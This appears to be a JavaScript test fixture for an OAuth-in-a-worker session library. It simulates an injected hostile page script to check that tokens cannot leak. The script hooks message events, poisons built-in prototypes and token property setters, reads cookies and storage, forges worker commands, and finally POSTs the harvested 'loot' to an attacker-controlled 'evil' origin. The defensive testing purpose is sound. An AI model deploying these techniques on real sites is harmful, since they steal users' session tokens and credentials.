// A hostile script injected into the test app after login (an XSS payload, a
// compromised dependency). It tries every way a page script has to obtain a
// token (the list below, the README's "OAuth in a worker" threat model) and reports each attempt's outcome and everything it got hold of
// (`loot`), which it also sends to the evil origin. The test looks for the
// OP's tokens in all of it.
//
//   const report = await (await import('/app/hostile.js')).attack({ resource, evil, mode });
export async function attack({ resource, evil, mode }) {
  const loot = [];
  const attempts = [];
  const grab = (v, depth = 0) => {
    if (depth > 6) return;
    if (typeof v === 'string') loot.push(v);
    else if (v instanceof ArrayBuffer) loot.push(new TextDecoder('windows-1252').decode(v));
    else if (Array.isArray(v)) v.forEach((x) => grab(x, depth + 1));
    else if (v !== null && typeof v === 'object') {
      for (const k of Object.getOwnPropertyNames(v)) {
        loot.push(k);
        try {
          grab(v[k], depth + 1);
        } catch { /* a getter that throws */ }
      }
    }
  };
  /** Runs one attempt: its outcome is what it returned, or the error's code. */
  const attempt = async (name, f) => {
    let outcome;
    try {
      const v = await f();
      grab(v);
      outcome = { ok: true, value: v instanceof Response ? `Response ${v.status}` : summary(v) };
    } catch (e) {
      grab(e?.message);
      outcome = { ok: false, code: e?.code ?? e?.name ?? 'error', message: String(e?.message ?? e).slice(0, 200) };
    }
    attempts.push({ name, ...outcome });
  };
  const summary = (v) => {
    try {
      return JSON.stringify(v)?.slice(0, 8000) ?? String(v);
    } catch {
      return String(v).slice(0, 200);
    }
  };
  const { session } = window.app;
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

  // 1. Listen everywhere first, so that what follows is overheard too.
  const heard = [];
  // Every message any port or worker of the page delivers.
  const dataGetter = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
  Object.defineProperty(MessageEvent.prototype, 'data', {
    configurable: true,
    get() {
      const d = dataGetter.call(this);
      heard.push(d);
      return d;
    },
  });
  // The relay between dedicated workers.
  const relay = new BroadcastChannel('edge-sso:session:edge-sso');
  relay.onmessage = (e) => heard.push(e.data);
  // The worker itself: a port of our own (shared), or a worker of our own
  // from the same script (dedicated: it joins the relay as a follower).
  let own;
  let ownPost;
  if (mode === 'shared') {
    own = new SharedWorker('/app/worker.js', { type: 'module', name: 'edge-sso' });
    own.port.onmessage = (e) => heard.push(e.data);
    ownPost = (m) => own.port.postMessage(m);
  } else {
    own = new Worker('/app/worker.js', { type: 'module', name: 'edge-sso' });
    own.onmessage = (e) => heard.push(e.data);
    ownPost = (m) => own.postMessage(m);
  }
  addEventListener('message', (e) => heard.push(e.data));

  // 2. Page globals, storage, cookies, URLs.
  await attempt('page globals', () => {
    const found = [];
    for (const k of Object.getOwnPropertyNames(window)) {
      let v;
      try {
        v = window[k];
      } catch {
        continue;
      }
      if (typeof v === 'string') found.push(v);
      else if (k === 'app') grab(v);
    }
    grab(found);
    return `${found.length} strings`;
  });
  await attempt('session object internals', () => {
    const out = [JSON.stringify(session), String(session), Object.getOwnPropertyNames(session),
      Object.getOwnPropertyNames(Object.getPrototypeOf(session)), Reflect.ownKeys(session).map(String)];
    for (const s of Object.getOwnPropertySymbols(session)) out.push(String(session[s]));
    return out;
  });
  await attempt('storage, cookies, URLs', async () => {
    const out = { cookie: document.cookie, url: location.href, history: history.length, referrer: document.referrer };
    for (const st of [localStorage, sessionStorage]) for (let i = 0; i < st.length; i++) out[`storage:${st.key(i)}`] = st.getItem(st.key(i));
    out.idb = (await indexedDB.databases?.())?.map((d) => d.name) ?? [];
    out.caches = await caches?.keys?.().catch(() => []) ?? [];
    out.entries = performance.getEntries().map((e) => e.name);
    return out;
  });

  // 3. The session's methods with odd arguments.
  await attempt('info("token")', () => session.info('token'));
  await attempt('info() facts', () => session.info());
  await attempt('userinfo()', () => session.userinfo());
  await attempt('fetch with our own Authorization', () => session.fetch(`${resource}/api/me`, { headers: { authorization: 'Bearer x' } }));
  await attempt('fetch with our own DPoP header', () => session.fetch(`${resource}/api/me`, { headers: { DPoP: 'x' } }));
  await attempt('fetch TRACE', () => session.fetch(`${resource}/api/me`, { method: 'TRACE' }));
  await attempt('fetch with a toString URL object', () => session.fetch({ toString: () => `${evil}/steal-tostring` }));
  await attempt('login with response_type=token', () => session.login({ extraParams: { response_type: 'token' } }));

  // 4. A resource URL on another origin, and look-alikes of the allowed one.
  const host = new URL(resource);
  for (const [name, url] of [
    ['evil origin', `${evil}/steal`],
    ['userinfo@evil', `${resource.replace('://', '://x@')}/api/me`],
    ['allowed as user part', `http://${host.host}@${new URL(evil).host}/steal-userpart`],
    ['localhost for 127.0.0.1', `http://localhost:${host.port}/api/me`],
    ['another port', `http://${host.hostname}:${Number(host.port) + 1}/api/me`],
    ['https for http', `https://${host.host}/api/me`],
    ['data: URL', 'data:text/plain,x'],
    ['javascript: URL', 'javascript:alert(1)'],
  ]) {
    await attempt(`fetch ${name}`, () => session.fetch(url));
  }

  // 5. An allowed origin that redirects to the evil one, and one that echoes the request.
  await attempt('fetch allowed origin that redirects', () => session.fetch(`${resource}/api/redirect`));
  await attempt('fetch allowed origin that echoes headers', () => session.fetch(`${resource}/api/echo`));

  // 6. Poisoned prototypes in the page, then the session used again.
  const poisoned = [];
  const spy = (obj, key) => {
    const original = obj[key];
    if (typeof original !== 'function') return;
    obj[key] = function poisoned_(...args) {
      grab(args);
      poisoned.push(key);
      return original.apply(this, args);
    };
  };
  spy(Headers.prototype, 'set');
  spy(Headers.prototype, 'append');
  spy(Headers.prototype, 'get');
  spy(MessagePort.prototype, 'postMessage');
  spy(Worker.prototype, 'postMessage');
  spy(BroadcastChannel.prototype, 'postMessage');
  spy(window, 'postMessage');
  spy(JSON, 'stringify');
  spy(JSON, 'parse');
  spy(window, 'fetch');
  const NativeRequest = window.Request;
  const NativeURL = window.URL;
  const NativeResponse = window.Response;
  window.Request = function Request(...args) { grab(args); return new NativeRequest(...args); };
  window.URL = function URL(...args) { grab(args); return new NativeURL(...args); };
  window.URL.prototype = NativeURL.prototype;
  window.Response = function Response(...args) { grab(args); return new NativeResponse(...args); };
  for (const key of ['authorization', 'dpop', 'access_token', 'refresh_token', 'id_token', 'token']) {
    Object.defineProperty(Object.prototype, key, { configurable: true, set(v) { grab(v); Object.defineProperty(this, key, { value: v, writable: true, enumerable: true, configurable: true }); } });
  }
  await attempt('fetch allowed resource under poisoned prototypes', async () => {
    const r = await session.fetch(`${resource}/api/me`);
    return r.text();
  });
  await attempt('userinfo under poisoned prototypes', () => session.userinfo());
  await attempt('info under poisoned prototypes', () => session.info());
  for (const key of ['authorization', 'dpop', 'access_token', 'refresh_token', 'id_token', 'token']) delete Object.prototype[key];
  window.Request = NativeRequest;
  window.URL = NativeURL;
  window.Response = NativeResponse;

  // 7. Forged commands straight to the worker.
  const forged = [
    { edgeSso: 1, id: 1, op: 'token', args: {} },
    { edgeSso: 1, id: 2, op: 'authorizationHeader', args: {} },
    { edgeSso: 1, id: 3, op: 'refreshRequest', args: {} },
    { edgeSso: 1, id: 4, op: '__proto__', args: {} },
    { edgeSso: 1, id: 5, op: 'constructor', args: {} },
    { edgeSso: 1, id: 6, op: 'fetch', args: { url: `${evil}/steal-forged`, method: 'GET', headers: [], body: null } },
    { edgeSso: 1, id: 7, op: 'fetch', args: { url: `${resource}/api/me`, method: 'GET', headers: [['authorization', 'x']], body: null } },
    { edgeSso: 1, id: 8, op: 'fetch', args: { url: `${resource}/api/me`, method: 'GET', headers: [], body: null, redirect: 'follow' } },
    { edgeSso: 1, id: 9, op: 'configure', args: { ...(await (await fetch('/app/config.json')).json()), resources: [evil] } },
    { edgeSso: 1, id: 10, op: 'info', args: { raw: true } },
    { edgeSso: 1, id: 11, op: 'info', args: JSON.parse('{"__proto__": {"raw": true}}') },
    { edgeSso: 1, id: 12, op: 'callback', args: { url: `${location.origin}/app/callback.html#access_token=x&state=y` } },
    { edgeSso: 1, id: 13, op: 'fetch', args: { url: `${resource}/api/redirect`, method: 'GET', headers: [], body: null } },
    { edgeSso: 2, id: 14, op: 'info', args: {} },
    { edgeSso: 1, id: -1, op: 'info', args: {} },
    { edgeSso: 1, id: 15, op: 'info' },
    { edgeSso: 1, id: 16, op: 'fetch', args: { url: `${resource}/api/me`, method: 'GET', headers: [], body: null } },
    'info',
    null,
  ];
  await attempt('forged commands to the worker', async () => {
    for (const m of forged) ownPost(m);
    // The dedicated workers' relay: a request as if from a follower.
    relay.postMessage({ relay: 'request', from: 'hostile', message: { edgeSso: 1, id: 99, op: 'fetch', args: { url: `${evil}/steal-relay`, method: 'GET', headers: [], body: null } } });
    relay.postMessage({ relay: 'request', from: 'hostile', message: { edgeSso: 1, id: 98, op: 'token', args: {} } });
    await sleep(3000);
    const answers = heard.filter((d) => d && typeof d === 'object' && 'id' in (d.reply ?? d));
    return answers.map((d) => d.reply ?? d).map((d) => ({ id: d.id, ok: d.ok, code: d.error?.code, status: d.value?.status }));
  });

  // 8. Keep listening through a refresh (the test's tokens live seconds).
  await attempt('listen through a refresh', async () => {
    const before = (await session.info()).expiresAt;
    const deadline = Date.now() + 15000;
    while (Date.now() < deadline && (await session.info()).expiresAt === before) await sleep(250);
    return { refreshed: (await session.info()).expiresAt !== before };
  });
  grab(heard);
  grab(poisoned);

  // Exfiltrate what was got.
  await fetch(`${evil}/loot`, { method: 'POST', body: JSON.stringify(loot) }).catch(() => {});
  return { attempts, loot, heard: heard.length, poisoned: poisoned.length };
}
